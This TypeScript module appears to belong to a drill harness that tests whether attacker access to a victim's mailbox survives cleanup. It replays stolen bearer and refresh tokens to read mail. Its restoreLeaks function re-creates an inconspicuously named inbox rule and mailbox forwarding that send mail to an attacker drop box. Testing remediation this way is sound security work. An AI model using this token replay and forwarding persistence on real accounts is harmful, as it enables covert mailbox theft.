import type { Loot } from './loot.ts';
import { anyOf, resultOf, type DoorResult } from './door-result.ts';
import { issued, type KeyRing } from './key-ring.ts';
import { bearer, type TenantClient } from './tenant-client.ts';

/** Reads the victim's mail with every token of one kind. */
export async function tryMail(
  client: TenantClient,
  tokens: ReadonlyMap<string, string>,
  door: string,
): Promise<DoorResult> {
  const results: DoorResult[] = [];
  for (const token of tokens.values()) {
    results.push(resultOf(door, await client.get('/v1.0/me/messages', bearer(token))));
  }
  return anyOf(door, results);
}

/** Reads the victim's mail as somebody who may open the mailbox; that account's own tokens are renewed first. */
export async function tryMailAsDelegate(client: TenantClient, loot: Loot, keys: KeyRing): Promise<DoorResult[]> {
  const door = 'mail-as-delegate';
  if (keys.delegate === null) return [];
  const renewed = await client.signIn({
    grant_type: 'refresh_token',
    refresh_token: keys.delegate.refreshToken,
    cae: 'true',
  });
  keys.delegate = issued(renewed) ?? keys.delegate;
  const path = `/v1.0/users/${loot.victim.objectId}/messages`;
  return [resultOf(door, await client.get(path, bearer(keys.delegate.accessToken)))];
}

/** A fresh marked mail to the victim: whether a copy arrives, and by which way, is seen in the attacker's own drop box. */
export async function tryDropBox(client: TenantClient, loot: Loot, subject: string): Promise<DoorResult[]> {
  const doors = { rule: 'inbox-rule', forwarding: 'forwarding' } as const;
  const sent = await client.post('/drill/send-mail', { to: loot.victim.userPrincipalName, subject });
  const { status, body } = await client.get(`/drill/drop-box/${encodeURIComponent(loot.dropBox)}`);
  const copies = Array.isArray(body['value']) ? (body['value'] as unknown[]) : [];
  const arrivedBy = (way: keyof typeof doors) =>
    copies.some((copy) => {
      const mail = typeof copy === 'object' && copy !== null ? { by: '', subject: '', ...copy } : undefined;
      return mail?.by === way && mail.subject === subject;
    });
  return (['rule', 'forwarding'] as const).map((way) => {
    const opened = arrivedBy(way);
    if (sent.status !== 202 || status !== 200) return { door: doors[way], opened, answer: 'the probe got no answer' };
    return { door: doors[way], opened, answer: opened ? 'a copy arrived' : 'no copy arrived' };
  });
}

/** Puts back what was taken from him, with any token that still writes to the mailbox. */
export async function restoreLeaks(
  client: TenantClient,
  loot: Loot,
  keys: KeyRing,
  shut: ReadonlySet<string>,
): Promise<void> {
  for (const token of [...keys.plainTokens.values(), ...keys.caeTokens.values()]) {
    const answers: number[] = [];
    if (shut.has('inbox-rule')) {
      const forwardTo = [{ emailAddress: { address: loot.dropBox } }];
      const rule = { displayName: '.', actions: { forwardTo } };
      answers.push((await client.post('/v1.0/me/mailFolders/inbox/messageRules', rule, bearer(token))).status);
    }
    if (shut.has('forwarding')) {
      answers.push((await client.post('/drill/mailbox/forwarding', { address: loot.dropBox }, bearer(token))).status);
    }
    if (answers.every((status) => status < 300 && status > 0)) return;
  }
}
